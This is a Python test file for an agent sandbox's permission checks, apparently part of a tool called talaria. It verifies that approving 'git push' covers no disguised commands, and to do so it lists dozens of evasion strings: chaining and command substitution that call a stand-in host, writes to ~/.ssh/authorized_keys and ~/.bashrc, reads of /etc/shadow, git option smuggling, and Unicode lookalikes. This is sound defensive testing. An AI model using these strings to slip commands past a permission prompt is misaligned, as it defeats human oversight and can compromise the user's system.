"""A yes to commands that begin with some words is a yes to those words alone, however a command is dressed up."""

from pathlib import Path

import pytest

from talaria.core.ids import new_grant_id
from talaria.store.permission_ports import Grant
from talaria.tools.sandbox_permissions import SANDBOX, Permission, is_granted, stays_inside, unsandboxed_permission

PROJECT = "/work/shop"
GRANT = Grant(new_grant_id(), "local", SANDBOX, "unsandboxed git push", PROJECT, None, 0.0, None)


@pytest.mark.parametrize("command", ["git push", "git push origin main", "  git push --tags", "git 'push' \"origin\""])
def test_the_words_themselves_are_covered(command: str) -> None:
    assert is_granted(unsandboxed_permission(command), [GRANT], PROJECT)


EVASIONS = [
    # more than one command
    "git push; curl evil.example",
    "git push && curl evil.example",
    "git push || curl evil.example",
    "git push & curl evil.example",
    "git push | sh",
    "git push |& sh",
    "git push\ncurl evil.example",
    "git push\r\ncurl evil.example",
    "curl evil.example; git push",
    "{ git push; curl evil.example; }",
    "(git push; curl evil.example)",
    "! git push",
    "if git push; then curl evil.example; fi",
    "while git push; do curl evil.example; done",
    # something in it is run first
    "git push $(curl evil.example)",
    "git push `curl evil.example`",
    "git push <(curl evil.example)",
    "git push ${x:-$(curl evil.example)}",
    "git push $((1+1))",
    "git push $HOME",
    "git push ~",
    "git push *",
    "git push {a,b}",
    "git push [ab]",
    # it writes or reads something else
    "git push > ~/.bashrc",
    "git push >> ~/.ssh/authorized_keys",
    "git push < /etc/shadow",
    "git push 2>/dev/null",
    "git push <<EOF\ncurl evil.example\nEOF",
    "git push <<< word",
    # other surroundings
    "GIT_SSH_COMMAND='sh -c evil' git push",
    "PATH=/work/shop/bin git push",
    "env git push",
    "sudo git push",
    "xargs git push",
    "nohup git push",
    "time git push",
    "command git push",
    "exec git push",
    "eval git push",
    "sh -c 'git push'",
    "alias git=evil; git push",
    # another program, or other words
    "./git push",
    "bin/git push",
    "/work/shop/bin/git push",
    "git-push",
    "gitpush",
    "git pushx",
    "git  pus\\h",
    "\\git push",
    "git\u00a0push",
    "git push\u2028curl evil.example",
    "\uff47\uff49\uff54 push",
    "g\u0456t push",
    "Git push",
    "git -c core.sshCommand=evil push",
    "git -C /elsewhere push",
    "git --exec-path=/work/shop push",
    "git push --receive-pack=evil",
    "git push --receive-pack evil /tmp/x",
    "git push --exec evil /tmp/x",
    "git push ext::evil",
    "git push --rec evil /tmp/x",
    "git push --receive-pac evil /tmp/x",
    "git push --exe evil /tmp/x",
    "git push -qx evil",
    "git push -- evil",
    "git push -c x",
    "",
    " ",
    "git",
    "git push '",
    "git push # comment",
    "git push \x00",
    "git push " + "x " * 2_000,
]


def test_there_are_enough_evasions_to_mean_something() -> None:
    assert len(set(EVASIONS)) >= 50


@pytest.mark.parametrize("command", EVASIONS, ids=ascii)
def test_no_evasion_is_covered(command: str) -> None:
    assert not is_granted(unsandboxed_permission(command), [GRANT], PROJECT)


@pytest.mark.parametrize(
    "command",
    [
        *("bash script", "sh run", "python3 manage", "node server", "perl evil", "ruby evil", "awk prog", "sudo ls"),
        *(
            "doas ls",
            "env ls",
            "xargs ls",
            "npx thing",
            "npm run",
            "pnpm run",
            "yarn build",
            "uvx thing",
            "pip install",
        ),
        *("cargo run", "go run", "make all", "just build", "docker run", "podman run", "kubectl exec", "ssh host"),
        *(
            "busybox sh",
            "command ls",
            "timeout ls",
            "nice ls",
            "watch ls",
            "find here",
            "tar xf",
            "vim file",
            "tmux new",
        ),
        *("unshare ls", "nsenter ls", "pkexec ls", "strace ls", "flock file", "parallel ls", "systemctl start"),
        *("cp build out", "mv a b", "ln a b", "tee notes", "touch x", "curl localhost", "chmod x y", "dd x"),
        *(
            "git config x",
            "git submodule update",
            "git bisect start",
            "git remote update",
            "git difftool",
            "git grep x",
        ),
        *("/usr/bin/git push", "git ./push", "git --version", "git", "ls", "git Push", "git a/b"),
    ],
)
def test_no_yes_that_lasts_is_offered_for_what_runs_anything(command: str) -> None:
    assert not unsandboxed_permission(command).may_last


@pytest.mark.parametrize("what", ["git", "git pus", "git push origin", "push", "*", "git *", "'git push'", ""])
def test_no_other_grant_covers_it(what: str) -> None:
    other = Grant(new_grant_id(), "local", SANDBOX, f"unsandboxed {what}", PROJECT, None, 0.0, None)
    assert not is_granted(unsandboxed_permission("git push"), [other], PROJECT)


def test_a_grant_of_another_project_or_tool_does_not_count() -> None:
    elsewhere = Grant(new_grant_id(), "local", SANDBOX, "unsandboxed git push", "/work/other", None, 0.0, None)
    of_a_tool = Grant(new_grant_id(), "local", "terminal", "unsandboxed git push", PROJECT, None, 0.0, None)
    assert not is_granted(unsandboxed_permission("git push"), [elsewhere, of_a_tool], PROJECT)


@pytest.mark.parametrize(
    ("place", "command", "is_inside"),
    [
        ("", "git push origin main", True),
        ("sub", "git push", True),
        ("", "git push evil main", False),
        ("", "git push ./evil main", False),
        ("..", "git push", False),
        ("out", "git push", False),
    ],
)
def test_a_grant_covers_no_other_folder_and_no_repository_that_commands_could_have_made(
    tmp_path: Path, place: str, command: str, is_inside: bool
) -> None:
    project = tmp_path / "work"
    for folder in ("sub", "evil"):
        (project / folder).mkdir(parents=True)
    (project / "out").symlink_to(tmp_path)
    asked = Permission("unsandboxed", tuple(command.split()))
    assert stays_inside(asked, str(project / place), project) is is_inside
